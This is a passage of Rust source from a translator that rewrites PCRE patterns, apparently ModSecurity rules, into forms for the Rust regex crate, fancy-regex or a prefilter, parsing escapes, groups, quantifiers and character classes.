                b'*' | b'+' | b'?' => {
                    let start = self.pos;
                    self.out.push(char::from(c));
                    self.pos += 1;
                    self.quantifier_suffix(u32::from(c == b'+'), start);
                }
                b'{' => match self.repeat_len() {
                    Some(len) => {
                        let start = self.pos;
                        let min = self.check_repeat(start, len)?;
                        for &b in &self.pat[start..start + len] {
                            self.out.push(char::from(b));
                        }
                        self.pos += len;
                        self.quantifier_suffix(min, start);
                    }
                    None => {
                        self.literal(b'{');
                        self.pos += 1;
                    }
                },
                b'.' => {
                    let set = if self.flags.dotall {
                        ByteSet::all()
                    } else {
                        ByteSet::single(b'\n').complement()
                    };
                    self.one_of(".", set);
                    self.pos += 1;
                }
                b'^' => {
                    self.item("^", Item::opaque());
                    self.pos += 1;
                }
                b'$' => {
                    if self.flags.multiline {
                        self.item("(?m:$)", Item::consuming(ByteSet::single(b'\n')));
                    } else {
                        // Nothing can follow the very end.
                        self.item(r"\z", Item::default());
                    }
                    self.pos += 1;
                }
                _ => {
                    self.literal(c);
                    self.pos += 1;
                }
            }
        }
        if let Some(frame) = self.frames.last() {
            return Err(invalid("missing `)` for the group", frame.offset));
        }
        let (highest, offset) = self.highest_reference;
        if highest > self.groups {
            return Err(invalid("reference to non-existent group", offset));
        }
        self.finish_branch();
        Ok(())
    }

    /// After a quantifier with this minimum: a lazy `?` stays; a possessive `+` stays for
    /// fancy-regex and goes for the `regex` crate (checked for equivalence when exact).
    fn quantifier_suffix(&mut self, min: u32, start: usize) {
        let possessive = match self.peek(0) {
            Some(b'?') => {
                self.out.push('?');
                self.pos += 1;
                false
            }
            Some(b'+') => {
                if self.target == Target::Backtracking {
                    self.out.push('+');
                }
                self.pos += 1;
                true
            }
            _ => false,
        };
        let index = self.branch.items.len().saturating_sub(1);
        let Some(last) = self.branch.items.last_mut() else {
            // Nothing to repeat: the engine will say so.
            return;
        };
        if min == 0 {
            last.nullable = true;
            last.absorbing = last.atom.is_some();
        }
        let atom = last.atom;
        last.atom = None;
        if possessive && self.target == Target::Linear {
            match atom {
                Some(set) => self.branch.pending.push(Pending {
                    index,
                    set,
                    offset: start,
                }),
                None => self.widening("possessive quantifier on a group", start),
            }
        }
    }

    /// Ends the current branch: checks its possessive quantifiers, and sums it up.
    fn finish_branch(&mut self) -> Item {
        let branch = std::mem::take(&mut self.branch);
        for pending in &branch.pending {
            if !possessive_is_greedy(&branch.items, pending) {
                self.widening(
                    "possessive quantifier followed by what can start with a byte it repeats",
                    pending.offset,
                );
            }
        }
        let mut summary = Item {
            nullable: true,
            ..Item::default()
        };
        for item in &branch.items {
            if item.opaque {
                summary.opaque = true;
                break;
            }
            summary.first = summary.first.union(item.first);
            if !item.nullable {
                summary.nullable = false;
                break;
            }
        }
        summary
    }

    /// The length of a valid PCRE quantifier `{n}`, `{n,}`, `{n,m}` at the current `{`.
    fn repeat_len(&self) -> Option<usize> {
        let rest = self.rest();
        let mut i = 1;
        let digits = |i: &mut usize| {
            let start = *i;
            while rest.get(*i).is_some_and(u8::is_ascii_digit) {
                *i += 1;
            }
            *i > start
        };
        if !digits(&mut i) {
            return None;
        }
        if rest.get(i) == Some(&b',') {
            i += 1;
            digits(&mut i);
        }
        (rest.get(i) == Some(&b'}')).then_some(i + 1)
    }

    /// PCRE's own checks on a quantifier's numbers; gives the minimum.
    fn check_repeat(&self, start: usize, len: usize) -> Result<u32, NeedsBacktracking> {
        let text = &self.pat[start + 1..start + len - 1];
        let mut numbers = text.split(|&b| b == b',').map(|part| {
            if part.is_empty() {
                return Ok(None);
            }
            let mut value: u32 = 0;
            for &d in part {
                value = value
                    .saturating_mul(10)
                    .saturating_add(u32::from(d.wrapping_sub(b'0')));
            }
            if value > MAX_REPEAT {
                Err(invalid("number too big in {} quantifier", start))
            } else {
                Ok(Some(value))
            }
        });
        let lo = numbers.next().transpose()?.flatten().unwrap_or(0);
        let hi = numbers.next().transpose()?.flatten();
        if hi.is_some_and(|hi| hi < lo) {
            return Err(invalid("numbers out of order in {} quantifier", start));
        }
        Ok(lo)
    }

    /// A backslash outside a class.
    fn escape(&mut self) -> Result<(), NeedsBacktracking> {
        let start = self.pos;
        let Some(c) = self.peek(1) else {
            return Err(invalid("`\\` at end of pattern", start));
        };
        self.pos += 2;
        match c {
            b'0'..=b'9' => self.digit_escape(start)?,
            b'x' => {
                let b = self.hex_escape(start)?;
                self.literal(b);
            }
            b'o' => {
                let b = self.octal_brace_escape(start)?;
                self.literal(b);
            }
            b'c' => {
                let b = self.control_escape(start)?;
                self.literal(b);
            }
            b'a' | b'e' | b'f' | b'n' | b'r' | b't' => self.literal(simple_escape(c)),
            b'd' | b'D' | b'w' | b'W' | b's' | b'S' => {
                let set = shorthand_set(c);
                self.one_of(&format!("\\{}", char::from(c)), set);
            }
            b'h' => self.one_of(&format!("[{HSPACE}]"), ByteSet::of(is_hspace)),
            b'H' => self.one_of(&format!("[^{HSPACE}]"), ByteSet::of(is_hspace).complement()),
            b'v' => self.one_of(&format!("[{VSPACE}]"), ByteSet::of(is_vspace)),
            b'V' => self.one_of(&format!("[^{VSPACE}]"), ByteSet::of(is_vspace).complement()),
            b'b' | b'B' | b'A' => self.item(&format!("\\{}", char::from(c)), Item::opaque()),
            // Nothing can follow the very end.
            b'z' => self.item(r"\z", Item::default()),
            // ModSecurity searches once, from offset 0: the first matching position is the
            // start of the subject.
            b'G' => self.item(r"\A", Item::opaque()),
            b'Z' => {
                let text = match self.target {
                    Target::Linear | Target::Prefilter => r"(?:\n?\z)",
                    Target::Backtracking => r"(?=\n?\z)",
                };
                self.item(text, Item::consuming(ByteSet::single(b'\n')));
            }
            b'R' => {
                let text = match self.target {
                    Target::Linear | Target::Prefilter => r"(?:\r\n|[\n\x0B\f\r\x85])",
                    Target::Backtracking => r"(?>\r\n|[\n\x0B\f\r\x85])",
                };
                self.item(text, Item::consuming(ByteSet::of(is_vspace)));
            }
            b'N' => {
                if self.peek(0) == Some(b'{') && self.repeat_len().is_none() {
                    return Err(invalid("\\N{name}", start));
                }
                self.one_of(r"[^\n]", ByteSet::single(b'\n').complement());
            }
            b'C' => self.one_of("(?s:.)", ByteSet::all()),
            b'K' => {
                self.backtracking_only("match start reset `\\K`", start)?;
                if self.target == Target::Backtracking {
                    self.out.push_str(r"\K");
                }
            }
            b'X' => return Err(unsupported("extended grapheme cluster `\\X`", start)),
            b'p' | b'P' => return Err(unsupported("Unicode property `\\p`", start)),
            b'l' | b'L' | b'u' | b'U' => {
                return Err(invalid(
                    format!("`\\{}` (PCRE does not support it)", char::from(c)),
                    start,
                ));
            }
            b'Q' => self.quoting = true,
            b'E' => {}
            b'g' => self.g_escape(start)?,
            b'k' => self.k_escape(start)?,
            _ if c.is_ascii_alphabetic() && self.flags.extra => {
                return Err(invalid(
                    format!("unknown escape `\\{}` under (?X)", char::from(c)),
                    start,
                ));
            }
            // Unknown letters (PCRE without PCRE_EXTRA), punctuation, other bytes.
            _ => self.literal(c),
        }
        Ok(())
    }

    /// `\` and a digit outside a class: a back-reference or an octal or literal digit
    /// (`self.pos` is past the first digit).
    fn digit_escape(&mut self, start: usize) -> Result<(), NeedsBacktracking> {
        let first = self.pat[start + 1];
        if first == b'0' {
            // \0 and up to two more octal digits.
            let b = self.octal_digits(start + 1, 3, start)?;
            self.literal(b);
            return Ok(());
        }
        let mut end = start + 1;
        let mut number: usize = 0;
        while let Some(d) = self.pat.get(end).filter(|b| b.is_ascii_digit()) {
            number = number
                .saturating_mul(10)
                .saturating_add(usize::from(d - b'0'));
            end += 1;
        }
        if number < 8 || number <= self.groups {
            self.pos = end;
            return self.backref(number, start);
        }
        if first == b'8' || first == b'9' {
            // A literal digit; the digits after it are read as literals too.
            self.literal(first);
            self.pos = start + 2;
            return Ok(());
        }
        let b = self.octal_digits(start + 1, 3, start)?;
        self.literal(b);
        Ok(())
    }

    /// Reads up to `max` octal digits from `from`, sets `self.pos` past them.
    fn octal_digits(
        &mut self,
        from: usize,
        max: usize,
        start: usize,
    ) -> Result<u8, NeedsBacktracking> {
        let mut value: u32 = 0;
        let mut i = from;
        while i < from + max {
            match self.pat.get(i) {
                Some(&d @ b'0'..=b'7') => value = value * 8 + u32::from(d - b'0'),
                _ => break,
            }
            i += 1;
        }
        self.pos = i;
        u8::try_from(value).map_err(|_| invalid("octal value greater than \\377", start))
    }

    /// `\x`: `\x{H...}`, or up to two hex digits (none is NUL); `self.pos` is past the `x`.
    fn hex_escape(&mut self, start: usize) -> Result<u8, NeedsBacktracking> {
        if self.peek(0) == Some(b'{') {
            let mut i = 1;
            let mut value: u32 = 0;
            while let Some(d) = self.peek(i).and_then(|b| char::from(b).to_digit(16)) {
                value = value.saturating_mul(16).saturating_add(d);
                i += 1;
            }
            if i == 1 || self.peek(i) != Some(b'}') {
                // PCRE 8.34 and later reject it (Perl does too).
                return Err(invalid("malformed `\\x{...}`", start));
            }
            self.pos += i + 1;
            return u8::try_from(value)
                .map_err(|_| invalid("character value in \\x{} too large", start));
        }
        let mut value: u32 = 0;
        for _ in 0..2 {
            match self.peek(0).and_then(|b| char::from(b).to_digit(16)) {
                Some(d) => {
                    value = value * 16 + d;
                    self.pos += 1;
                }
                None => break,
            }
        }
        // Two hex digits at most: always a byte.
        Ok(u8::try_from(value).unwrap_or(u8::MAX))
    }

    /// `\o{...}`; `self.pos` is past the `o`.
    fn octal_brace_escape(&mut self, start: usize) -> Result<u8, NeedsBacktracking> {
        if self.peek(0) != Some(b'{') {
            return Err(invalid("`\\o` without `{`", start));
        }
        let mut i = 1;
        let mut value: u32 = 0;
        while let Some(d @ b'0'..=b'7') = self.peek(i) {
            value = value.saturating_mul(8).saturating_add(u32::from(d - b'0'));
            i += 1;
        }
        if i == 1 || self.peek(i) != Some(b'}') {
            return Err(invalid("malformed `\\o{...}`", start));
        }
        self.pos += i + 1;
        u8::try_from(value).map_err(|_| invalid("character value in \\o{} too large", start))
    }

    /// `\cX`; `self.pos` is past the `c`.
    fn control_escape(&mut self, start: usize) -> Result<u8, NeedsBacktracking> {
        match self.peek(0) {
            Some(b) if b.is_ascii() => {
                self.pos += 1;
                Ok(b.to_ascii_uppercase() ^ 0x40)
            }
            Some(_) => Err(invalid("`\\c` followed by a non-ASCII byte", start)),
            None => Err(invalid("`\\c` at end of pattern", start)),
        }
    }

    /// What stands for "any text" in the prefilter (back-references, recursion).
    fn anything(&mut self) {
        self.item("(?s:.*)", Item::opaque());
    }

    /// Notes a reference to group `number` (checked at the end: it may come later).
    fn refer(&mut self, number: usize, start: usize) {
        if number > self.highest_reference.0 {
            self.highest_reference = (number, start);
        }
    }

    /// A back-reference to group `number`.
    fn backref(&mut self, number: usize, start: usize) -> Result<(), NeedsBacktracking> {
        self.backtracking_only("back-reference", start)?;
        if number == 0 {
            return Err(invalid("back-reference to group 0", start));
        }
        self.refer(number, start);
        match self.target {
            // `\k<N>` cannot run into a following digit, unlike `\N`.
            Target::Backtracking => self.item(&format!(r"\k<{number}>"), Item::opaque()),
            _ => self.anything(),
        }
        Ok(())
    }

    /// A back-reference by name.
    fn named_backref(&mut self, name: &[u8], start: usize) -> Result<(), NeedsBacktracking> {
        self.backtracking_only("back-reference", start)?;
        if self.target == Target::Prefilter {
            self.anything();
            return Ok(());
        }
        match self.group_number(name) {
            Some(number) => self.backref(number, start),
            None if self.collect_only => Ok(()),
            None => Err(invalid(
                format!(
                    "reference to non-existent group `{}`",
                    String::from_utf8_lossy(name)
                ),
                start,
            )),
        }
    }

    fn group_number(&self, name: &[u8]) -> Option<usize> {
        self.names
            .iter()
            .find(|(n, _)| n.as_bytes() == name)
            .map(|&(_, number)| number)
    }

    /// Reads a group name ending in `close`; `self.pos` is at its first byte.
    fn read_name(&mut self, close: u8, start: usize) -> Result<&'p [u8], NeedsBacktracking> {
        let rest = self.rest();
        let len = rest
            .iter()
            .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
            .unwrap_or(rest.len());
        let well_formed =
            len > 0 && len <= 32 && rest.get(len) == Some(&close) && !rest[0].is_ascii_digit();
        if !well_formed {
            return Err(invalid("malformed group name", start));
        }
        self.pos += len + 1;
        Ok(&rest[..len])
    }

    /// `\g`: back-references `\gN`, `\g{N}`, `\g-N`, `\g{-N}`, `\g{name}`; subroutine calls
    /// `\g<...>`, `\g'...'`. `self.pos` is past the `g`.
    fn g_escape(&mut self, start: usize) -> Result<(), NeedsBacktracking> {
        match self.peek(0) {
            Some(b'<') | Some(b'\'') => {
                self.backtracking_only("subroutine call `\\g<...>`", start)?;
                let close = if self.peek(0) == Some(b'<') {
                    b'>'
                } else {
                    b'\''
                };
                self.pos += 1;
                self.subroutine_call(close, start)
            }
            Some(b'{') => {
                self.pos += 1;
                if let Some((number, len)) = self.signed_number() {
                    if self.peek(len) != Some(b'}') {
                        return Err(invalid("malformed `\\g{...}`", start));
                    }
                    self.pos += len + 1;
                    let number = self.resolve_relative(number, start)?;
                    self.backref(number, start)
                } else {
                    let name = self.read_name(b'}', start)?;
                    self.named_backref(name, start)
                }
            }
            _ => match self.signed_number() {
                Some((number, len)) => {
                    self.pos += len;
                    let number = self.resolve_relative(number, start)?;
                    self.backref(number, start)
                }
                None => Err(invalid("`\\g` not followed by a group", start)),
            },
        }
    }

    /// `\k<name>`, `\k'name'`, `\k{name}`; `self.pos` is past the `k`.
    fn k_escape(&mut self, start: usize) -> Result<(), NeedsBacktracking> {
        let close = match self.peek(0) {
            Some(b'<') => b'>',
            Some(b'\'') => b'\'',
            Some(b'{') => b'}',
            _ => return Err(invalid("`\\k` not followed by a name", start)),
        };
        self.pos += 1;
        let name = self.read_name(close, start)?;
        self.named_backref(name, start)
    }

    /// An optionally signed decimal number at `self.pos`, and its length.
    fn signed_number(&self) -> Option<(Reference, usize)> {
        let rest = self.rest();
        let (sign, skip) = match rest.first() {
            Some(b'-') => (-1, 1),
            Some(b'+') => (1, 1),
            _ => (0, 0),
        };
        let digits = rest
            .get(skip..)?
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        if digits == 0 {
            return None;
        }
        let mut value: usize = 0;
        for &d in rest.get(skip..skip + digits)? {
            value = value
                .saturating_mul(10)
                .saturating_add(usize::from(d - b'0'));
        }
        let reference = match sign {
            -1 => Reference::Back(value),
            1 => Reference::Forward(value),
            _ => Reference::Absolute(value),
        };
        Some((reference, skip + digits))
    }

    fn resolve_relative(
        &self,
        reference: Reference,
        start: usize,
    ) -> Result<usize, NeedsBacktracking> {
        match reference {
            Reference::Absolute(n) => Ok(n),
            Reference::Back(n) if n >= 1 && n <= self.groups => Ok(self.groups + 1 - n),
            Reference::Forward(n) if n >= 1 => Ok(self.groups.saturating_add(n)),
            _ => Err(invalid("reference to non-existent group", start)),
        }
    }

    /// A subroutine call by name or number up to `close`; `self.pos` is at the target.
    fn subroutine_call(&mut self, close: u8, start: usize) -> Result<(), NeedsBacktracking> {
        let call = if let Some((reference, len)) = self.signed_number() {
            if self.peek(len) != Some(close) {
                return Err(invalid("malformed subroutine call", start));
            }
            self.pos += len + 1;
            let number = self.resolve_relative(reference, start)?;
            self.refer(number, start);
            format!(r"\g<{number}>")
        } else {
            let name = self.read_name(close, start)?;
            format!(r"\g<{}>", String::from_utf8_lossy(name))
        };
        match self.target {
            Target::Backtracking => self.item(&call, Item::opaque()),
            _ => self.anything(),
        }
        Ok(())
    }

    /// `(` and what follows it.
    fn open_group(&mut self) -> Result<(), NeedsBacktracking> {
        let start = self.pos;
        let rest = self.rest();
        if rest.starts_with(b"(?#") {
            // A comment, up to the next `)`.
            return match rest.iter().position(|&b| b == b')') {
                Some(end) => {
                    self.pos += end + 1;
                    Ok(())
                }
                None => Err(invalid("missing `)` after comment", start)),
            };
        }
        if rest.starts_with(b"(*") {
            return Err(unsupported(
                "backtracking control verb or option `(*...)`",
                start,
            ));
        }
        if !rest.starts_with(b"(?") {
            self.groups += 1;
            self.open(start, 1, "(", ")");
            return Ok(());
        }
        let after = rest.get(2).copied();
        let after2 = rest.get(3).copied();
        match (after, after2) {
            (Some(b':'), _) => self.open(start, 3, "(?:", ")"),
            (Some(b'>'), _) => match self.target {
                Target::Linear => {
                    self.widening("atomic group `(?>`", start);
                    self.open(start, 3, "(?:", ")");
                }
                Target::Prefilter => self.open(start, 3, "(?:", ")"),
                Target::Backtracking => self.open(start, 3, "(?>", ")"),
            },
            (Some(b'='), _) => self.look_around(start, 3, "look-ahead `(?=`")?,
            (Some(b'!'), _) => self.look_around(start, 3, "negative look-ahead `(?!`")?,
            (Some(b'<'), Some(b'=')) => self.look_around(start, 4, "look-behind `(?<=`")?,
            (Some(b'<'), Some(b'!')) => {
                self.look_around(start, 4, "negative look-behind `(?<!`")?;
            }
            (Some(b'<'), _) => self.named_group(start, 3, b'>')?,
            (Some(b'\''), _) => self.named_group(start, 3, b'\'')?,
            (Some(b'P'), Some(b'<')) => self.named_group(start, 4, b'>')?,
            (Some(b'P'), Some(b'=')) => {
                self.pos += 4;
                let name = self.read_name(b')', start)?;
                self.named_backref(name, start)?;
            }
            (Some(b'P'), Some(b'>')) => {
                self.backtracking_only("subroutine call `(?P>`", start)?;
                self.pos += 4;
                self.subroutine_call(b')', start)?;
            }
            (Some(b'&'), _) => {
                self.backtracking_only("subroutine call `(?&`", start)?;
                self.pos += 3;
                self.subroutine_call(b')', start)?;
            }
            (Some(b'R'), Some(b')')) => {
                self.backtracking_only("recursion `(?R)`", start)?;
                self.pos += 4;
                match self.target {
                    Target::Backtracking => self.item(r"\g<0>", Item::opaque()),
                    _ => self.anything(),
                }
            }
            (Some(b'0'..=b'9' | b'+' | b'-'), Some(b'0'..=b'9')) | (Some(b'0'..=b'9'), _) => {
                self.backtracking_only("subroutine call `(?N)`", start)?;
                self.pos += 2;
                self.subroutine_call(b')', start)?;
            }
            (Some(b'('), _) => {
                self.backtracking_only("conditional group `(?(`", start)?;
                self.conditional(start)?;
            }
            (Some(b'|'), _) => return Err(unsupported("branch reset group `(?|`", start)),
            (Some(b'C'), _) => return Err(unsupported("callout `(?C`", start)),
            _ => self.option_setting(start)?,
        }
        Ok(())
    }

    /// Opens a group: `len` bytes of the pattern, `open` in the output.
    fn open(&mut self, start: usize, len: usize, open: &str, close: &'static str) {
        self.frames.push(Frame {
            outer_flags: self.flags,
            offset: start,
            outer: std::mem::take(&mut self.branch),
            alternatives: None,
            discard_from: None,
            close,
        });
        self.out.push_str(open);
        self.pos += len;
    }

    fn look_around(
        &mut self,
        start: usize,
        len: usize,
        construct: &str,
    ) -> Result<(), NeedsBacktracking> {
        self.backtracking_only(construct, start)?;
        let discard_from = self.out.len();
        let open = String::from_utf8_lossy(&self.pat[start..start + len]).into_owned();
        self.open(start, len, &open, ")");
        if self.target == Target::Prefilter
            && let Some(frame) = self.frames.last_mut()
        {
            frame.discard_from = Some(discard_from);
        }
        Ok(())
    }

    fn close_group(&mut self) -> Result<(), NeedsBacktracking> {
        let summary = self.finish_branch();
        let Some(frame) = self.frames.pop() else {
            return Err(invalid("unmatched `)`", self.pos));
        };
        let summary = match frame.alternatives {
            Some(alt) => alt.union(summary),
            None => summary,
        };
        self.flags = frame.outer_flags;
        self.branch = frame.outer;
        self.pos += 1;
        match frame.discard_from {
            Some(from) => {
                // A look-around in the prefilter: dropped, it matches wherever it did.
                self.out.truncate(from);
                self.item("(?:)", Item::opaque());
            }
            None => self.item(frame.close, summary),
        }
        Ok(())
    }

    /// `(?<name>`, `(?'name'`, `(?P<name>`: a capturing group, written without its name.
    fn named_group(
        &mut self,
        start: usize,
        len: usize,
        close: u8,
    ) -> Result<(), NeedsBacktracking> {
        self.pos += len;
        let name = self.read_name(close, start)?;
        self.groups += 1;
        if self.group_number(name).is_none() {
            self.names
                .push((String::from_utf8_lossy(name).into_owned(), self.groups));
        }
        self.open(start, 0, "(", ")");
        Ok(())
    }

    /// `(?(condition)yes|no)`, for the backtracking engine (the prefilter takes
    /// `(?:(?:yes|no)|)`).
    fn conditional(&mut self, start: usize) -> Result<(), NeedsBacktracking> {
        let prefilter = self.target == Target::Prefilter;
        let (open, close) = if prefilter {
            ("(?:(?:", ")|)")
        } else {
            ("", ")")
        };
        self.open(start, 3, open, close);
        if self.peek(0) == Some(b'?') {
            // An assertion condition: the assertion is read as a group of its own.
            self.pos -= 1;
            if !prefilter {
                self.out.push_str("(?");
            }
            return Ok(());
        }
        let condition = if let Some((reference, len)) = self.signed_number() {
            if self.peek(len) != Some(b')') {
                return Err(invalid("malformed condition", start));
            }
            self.pos += len + 1;
            let number = self.resolve_relative(reference, start)?;
            self.refer(number, start);
            number
        } else {
            let close = match self.peek(0) {
                Some(b'<') => b'>',
                Some(b'\'') => b'\'',
                _ => b')',
            };
            if close != b')' {
                self.pos += 1;
            }
            let name = self.read_name(close, start)?;
            if name.starts_with(b"R") || name == b"DEFINE" {
                return Err(unsupported("recursion or DEFINE condition", start));
            }
            if close != b')' {
                if self.peek(0) != Some(b')') {
                    return Err(invalid("malformed condition", start));
                }
                self.pos += 1;
            }
            match self.group_number(name) {
                Some(number) => number,
                None if self.collect_only || prefilter => 1,
                None => return Err(invalid("condition on a non-existent group", start)),
            }
        };
        if !prefilter {
            self.out.push_str(&format!("(?({condition})"));
        }
        Ok(())
    }

    /// `(?imsxUXJ-imsxUXJ)` or `(?imsxUXJ-imsxUXJ:`.
    fn option_setting(&mut self, start: usize) -> Result<(), NeedsBacktracking> {
        let mut i = start + 2;
        let mut on = String::new();
        let mut off = String::new();
        let mut negate = false;
        let mut flags = self.flags;
        loop {
            let Some(&b) = self.pat.get(i) else {
                return Err(invalid("unterminated option setting", start));
            };
            i += 1;
            match b {
                b'-' if !negate => negate = true,
                b'i' | b'm' | b's' | b'U' => {
                    match b {
                        b'i' => flags.caseless = !negate,
                        b'm' => flags.multiline = !negate,
                        b's' => flags.dotall = !negate,
                        _ => {}
                    }
                    if negate { &mut off } else { &mut on }.push(char::from(b));
                }
                b'x' => flags.extended = !negate,
                b'X' => flags.extra = !negate,
                b'J' => {}
                b')' | b':' => {
                    let options = if off.is_empty() {
                        on
                    } else {
                        format!("{on}-{off}")
                    };
                    if b == b':' {
                        self.open(start, i - start, &format!("(?{options}:"), ")");
                        self.flags = flags;
                    } else {
                        self.flags = flags;
                        self.pos = i;
                        if !options.is_empty() {
                            self.out.push_str(&format!("(?{options})"));
                        }
                    }
                    return Ok(());
                }
                _ => {
                    return Err(invalid(
                        format!("unknown group or option `(?{}`", char::from(b)),
                        start,
                    ));
                }
            }
        }
    }

    /// A character class.
    fn class(&mut self) -> Result<(), NeedsBacktracking> {
        let start = self.pos;
        self.pos += 1;
        let negated = self.peek(0) == Some(b'^');
        if negated {
            self.pos += 1;
        }
        let mut body = String::new();
        let mut members = ByteSet::default();
        let mut first = true;
        loop {
            let Some(c) = self.peek(0) else {
                return Err(invalid("missing `]` for the character class", start));
            };
            if c == b']' && !first && !self.quoting {
                self.pos += 1;
                break;
            }
            first = false;
            match self.class_item(start)? {
                ClassItem::Byte(lo) => {
                    let range = !self.quoting
                        && self.peek(0) == Some(b'-')
                        && self.peek(1).is_some_and(|b| b != b']');
                    push_byte(&mut body, lo);
                    members.insert(lo);
                    if range {
                        self.pos += 1;
                        match self.class_item(start)? {
                            ClassItem::Byte(hi) => {
                                if hi < lo {
                                    return Err(invalid(
                                        "range out of order in character class",
                                        start,
                                    ));
                                }
                                body.push('-');
                                push_byte(&mut body, hi);
                                members.insert_range(lo, hi);
                            }
                            // PCRE 8 takes the hyphen literally before a class escape.
                            ClassItem::Set(set, set_members) => {
                                body.push_str(r"\-");
                                body.push_str(&set);
                                members.insert(b'-');
                                members = members.union(set_members);
                            }
                            ClassItem::Nothing => {
                                body.push_str(r"\-");
                                members.insert(b'-');
                            }
                        }
                    }
                }
                ClassItem::Set(set, set_members) => {
                    body.push_str(&set);
                    members = members.union(set_members);
                }
                ClassItem::Nothing => {}
            }
        }
        let mut members = self.fold(members);
        if negated {
            members = members.complement();
        }
        if body.is_empty() {
            // Only `\E`s or an empty `\Q\E`: keep the meaning of "no byte" (or "any byte",
            // negated).
            let text = if negated { "(?s:.)" } else { r"[^\x00-\xFF]" };
            self.one_of(text, members);
            return Ok(());
        }
        let text = format!("[{}{body}]", if negated { "^" } else { "" });
        self.one_of(&text, members);
        Ok(())
    }

    /// One member of a class at `self.pos`.
    fn class_item(&mut self, class_start: usize) -> Result<ClassItem, NeedsBacktracking> {
        let Some(c) = self.peek(0) else {
            return Err(invalid("missing `]` for the character class", class_start));
        };
        if self.quoting {
            if self.rest().starts_with(b"\\E") {
                self.quoting = false;
                self.pos += 2;
                return Ok(ClassItem::Nothing);
            }
            self.pos += 1;
            return Ok(ClassItem::Byte(c));
        }
        match c {
            b'[' => {
                if let Some(set) = self.posix_class()? {
                    return Ok(set);
                }
                self.pos += 1;
                Ok(ClassItem::Byte(c))
            }
            b'\\' => self.class_escape(),
            _ => {
                self.pos += 1;
                Ok(ClassItem::Byte(c))
            }
        }
    }

    /// `[:name:]` at `self.pos` (PCRE's check_posix_syntax), or `None` for a literal `[`.
    fn posix_class(&mut self) -> Result<Option<ClassItem>, NeedsBacktracking> {
        let start = self.pos;
        let rest = self.rest();
        let Some(&terminator) = rest.get(1).filter(|b| matches!(b, b':' | b'.' | b'=')) else {
            return Ok(None);
        };
        let mut i = 2;
        let end = loop {
            let Some(&b) = rest.get(i) else {
                return Ok(None);
            };
            let next = rest.get(i + 1).copied();
            if b == b'\\' && matches!(next, Some(b']' | b'\\')) {
                i += 2;
            } else if (b == b'[' && next == Some(terminator)) || b == b']' {
                return Ok(None);
            } else if b == terminator && next == Some(b']') {
                break i;
            } else {
                i += 1;
            }
        };
        if terminator != b':' {
            return Err(invalid("POSIX collating elements are not supported", start));
        }
        let inner = &rest[2..end];
        let (negate, name) = match inner.strip_prefix(b"^") {
            Some(name) => (true, name),
            None => (false, inner),
        };
        let Some(&(name, member)) = POSIX_CLASSES.iter().find(|(n, _)| n.as_bytes() == name) else {
            return Err(invalid("unknown POSIX class name", start));
        };
        self.pos += end + 2;
        let mut members = ByteSet::of(member);
        if negate {
            members = members.complement();
        }
        let text = format!("[:{}{name}:]", if negate { "^" } else { "" });
        Ok(Some(ClassItem::Set(text, members)))
    }

    /// A backslash inside a class.
    fn class_escape(&mut self) -> Result<ClassItem, NeedsBacktracking> {
        let start = self.pos;
        let Some(c) = self.peek(1) else {
            return Err(invalid("`\\` at end of pattern", start));
        };
        self.pos += 2;
        Ok(match c {
            b'0'..=b'7' => ClassItem::Byte(self.octal_digits(start + 1, 3, start)?),
            b'x' => ClassItem::Byte(self.hex_escape(start)?),
            b'o' => ClassItem::Byte(self.octal_brace_escape(start)?),
            b'c' => ClassItem::Byte(self.control_escape(start)?),
            b'a' | b'e' | b'f' | b'n' | b'r' | b't' => ClassItem::Byte(simple_escape(c)),
            b'b' => ClassItem::Byte(0x08),
            b'd' | b'D' | b'w' | b'W' | b's' | b'S' => {
                ClassItem::Set(format!("\\{}", char::from(c)), shorthand_set(c))
            }
            b'h' => ClassItem::Set(format!("[{HSPACE}]"), ByteSet::of(is_hspace)),
            b'H' => ClassItem::Set(format!("[^{HSPACE}]"), ByteSet::of(is_hspace).complement()),
            b'v' => ClassItem::Set(format!("[{VSPACE}]"), ByteSet::of(is_vspace)),
            b'V' => ClassItem::Set(format!("[^{VSPACE}]"), ByteSet::of(is_vspace).complement()),
            b'N' => return Err(invalid("`\\N` in a character class", start)),
            b'p' | b'P' => return Err(unsupported("Unicode property `\\p`", start)),
            b'l' | b'L' | b'u' | b'U' => {
                return Err(invalid(
                    format!("`\\{}` (PCRE does not support it)", char::from(c)),
                    start,
                ));
            }
            b'Q' => {
                self.quoting = true;
                ClassItem::Nothing
            }
            b'E' => ClassItem::Nothing,
            _ if c.is_ascii_alphabetic() && self.flags.extra => {
                return Err(invalid(
                    format!("unknown escape `\\{}` under (?X)", char::from(c)),
                    start,
                ));
            }
            // `\8`, `\9`, unknown letters (`\R`, `\X`, `\B` are not special in a class) and
            // punctuation are the byte itself.
            _ => ClassItem::Byte(c),
        })
    }
}

/// Whether a possessive single-byte repeat is exactly its greedy form: what follows it in
/// its branch is optional single-byte repeats, then something that cannot start with a byte
/// it repeats (see [`translate`]).
fn possessive_is_greedy(items: &[Item], pending: &Pending) -> bool {
    let following = items.get(pending.index + 1..).unwrap_or(&[]);
    let absorbing = following.iter().take_while(|item| item.absorbing).count();
    let mut first = ByteSet::default();
    for item in following.iter().skip(absorbing) {
        if item.opaque {
            return false;
        }
        first = first.union(item.first);
        if !item.nullable {
            return !first.intersects(pending.set);
        }
    }
    // What follows can be empty: the check would need the rest of the pattern.
    false
}

/// The members of `\d`, `\D`, `\w`, `\W`, `\s`, `\S`.
fn shorthand_set(c: u8) -> ByteSet {
    let set = match c.to_ascii_lowercase() {
        b'd' => ByteSet::of(|b| b.is_ascii_digit()),
        b'w' => ByteSet::of(is_word),
        _ => ByteSet::of(is_space),
    };
    if c.is_ascii_uppercase() {
        set.complement()
    } else {
        set
    }
}

/// A group number as written: absolute, or relative to the groups opened so far.
#[derive(Debug, Clone, Copy)]
enum Reference {
    Absolute(usize),
    Back(usize),
    Forward(usize),
}

/// `\a`, `\e`, `\f`, `\n`, `\r`, `\t`.
fn simple_escape(c: u8) -> u8 {
    match c {
        b'a' => 0x07,
        b'e' => 0x1b,
        b'f' => 0x0c,
        b'n' => b'\n',
        b'r' => b'\r',
        _ => b'\t',
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Compiles `pcre` (panicking with the reason: this is a test).
    fn pat(pcre: &str) -> Pattern {
        match Pattern::new(pcre) {
            Ok(p) => p,
            Err(e) => panic!("{e}"),
        }
    }

    fn matches(pcre: &str, hay: &[u8]) -> bool {
        match pat(pcre).find(hay) {
